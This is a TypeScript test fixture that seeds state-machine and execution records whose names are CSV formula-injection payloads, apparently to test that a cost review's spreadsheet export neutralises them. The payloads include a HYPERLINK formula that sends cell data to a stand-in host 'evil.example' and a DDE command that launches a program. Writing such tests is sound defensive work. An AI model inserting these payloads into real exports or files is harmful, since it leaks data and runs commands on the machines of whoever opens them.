import { ensureSource, saveExecution, saveStateMachine, type Db } from '@/lib/db';
import { getExecutionOutcome } from '@/lib/model';
import { runOrder } from '@/test/analysis/replay/engine-scenarios';

/**
 * State machine names a spreadsheet would run as formulas, by the character that makes them one
 * (OWASP's list plus a leading space); storable in SQLite and PostgreSQL (no NUL).
 */
export const FORMULA_NAMES: [trigger: string, name: string][] = [
  ['=', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
  ['+', "+1+cmd|' /C calc'!A0"],
  ['-', '-2+3'],
  ['@', '@SUM(1+1)'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['space, then =', ' =1+1'],
];

/** A cell of a number column as the product writes it: a bare decimal (maybe negative) or "unknown". */
export const NUMBER_CELL = /^(-?\d+(\.\d+)?|unknown)$/;

/**
 * One run of the order workflow (engine-run, complete history) under each formula name as a Standard
 * machine, and under a plain name as an Express one: the review then has known costs, and the Standard
 * machines a negative saving. Returns the review month.
 */
export async function seedFormulaMachines(db: Db): Promise<string> {
  const run = await runOrder();
  const sourceId = await ensureSource(db, { kind: 'LOCAL', name: 'Local engine (tests)', region: 'us-east-1', accountId: '111111111111' });
  const outcome = getExecutionOutcome(run.events);
  const machines = [...FORMULA_NAMES.map(([, name]) => ['STANDARD', name] as const), ['EXPRESS', 'plain-express'] as const];
  for (const [type, name] of machines) {
    const arn = `arn:aws:states:us-east-1:111111111111:stateMachine:${name}`;
    const target = await saveStateMachine(db, sourceId, { arn, name, type, definition: JSON.stringify(run.definition), revisionId: null, status: 'ACTIVE', roleArn: null, logGroupArn: null, createdAt: null });
    await saveExecution(db, { sourceId, ...target }, {
      arn: `arn:aws:states:us-east-1:111111111111:execution:${name}:run-1`,
      name: 'run-1',
      stateMachineArn: arn,
      status: 'FAILED',
      startDate: outcome.startDate ?? run.events[0].timestamp,
      stopDate: outcome.stopDate,
      input: run.input,
      output: run.output,
      error: run.error,
      cause: run.cause,
      failedStateName: outcome.failedStateName,
      redriveCount: 0,
      redriveDate: null,
      redriveStatus: null,
      redriveStatusReason: null,
      mapRunArn: null,
      events: run.events,
      historyComplete: true,
    });
  }
  return run.events[0].timestamp.toISOString().slice(0, 7);
}
